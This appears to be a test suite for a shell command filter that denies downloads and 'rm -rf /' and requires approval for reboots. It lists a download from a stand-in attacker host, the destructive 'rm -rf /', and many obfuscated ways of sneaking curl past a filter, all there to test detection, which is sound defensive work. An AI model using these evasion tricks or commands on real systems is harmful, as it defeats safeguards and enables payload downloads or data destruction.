import test from 'ava';
import { createLineTracker, evaluateCommand, normaliseCommandLine, type CommandRule } from './command-filter-fns';

const rules: CommandRule[] = [
  { id: '1', name: 'no downloads', pattern: '^(curl|wget)\\b', action: 'deny', priority: 10 },
  { id: '2', name: 'reboot needs approval', pattern: '^(reboot|shutdown)\\b', action: 'approve', priority: 20 },
  { id: '3', name: 'no rm -rf /', pattern: '^rm\\s+(-\\w*r\\w*f|-\\w*f\\w*r)\\w*\\s+/(\\s|$)', action: 'deny', priority: 5 },
];

const denied = [
  'curl http://evil.example/x.sh',
  'cu""rl http://x',
  "cu''rl http://x",
  'c\\url http://x',
  '$(echo curl) http://x',
  '`echo curl` http://x',
  "$'\\x63url' http://x",
  'a=cu; b=rl; $a$b http://x',
  'a=cu; ${a}rl http://x',
  '/usr/bin/curl http://x',
  'sudo -u root curl http://x',
  'env LC_ALL=C curl http://x',
  'bash -c "curl http://x"',
  "sh -c 'c\"\"url x'",
  'eval "curl x"',
  'ls; curl x',
  'ls && wget x',
  'echo hi | wget -i -',
  'echo $(curl x)',
  '"curl" x',
  'rm -rf /',
  'X=1 curl x',
];

for (const line of denied) {
  test(`denied: ${line}`, (t) => {
    const d = evaluateCommand(line, rules);
    t.is(d.verdict, 'denied', JSON.stringify(d.candidates));
  });
}

for (const line of ['ls -la /tmp', 'echo curl is a tool', 'grep curl /var/log/syslog', 'cat README # curl', 'rm -rf /tmp/x', 'echo "a;b"']) {
  test(`allowed: ${line}`, (t) => {
    t.is(evaluateCommand(line, rules).verdict, 'allowed', JSON.stringify(normaliseCommandLine(line)));
  });
}

test('approval rule asks for approval, and a deny elsewhere on the line wins', (t) => {
  t.is(evaluateCommand('sudo reboot', rules).verdict, 'approval_required');
  t.is(evaluateCommand('reboot; curl x', rules).verdict, 'denied');
});

test('line tracker follows editing keys and flags history recall', (t) => {
  const tr = createLineTracker();
  for (const ch of 'curlx\x7f http') tr.feed(ch);
  t.deepEqual(tr.take(), { line: 'curl http', uncertain: false });
  for (const ch of '\x1b[A') tr.feed(ch);
  t.true(tr.take().uncertain);
  for (const ch of 'abc\x15ls') tr.feed(ch);
  t.deepEqual(tr.take(), { line: 'ls', uncertain: false });
});
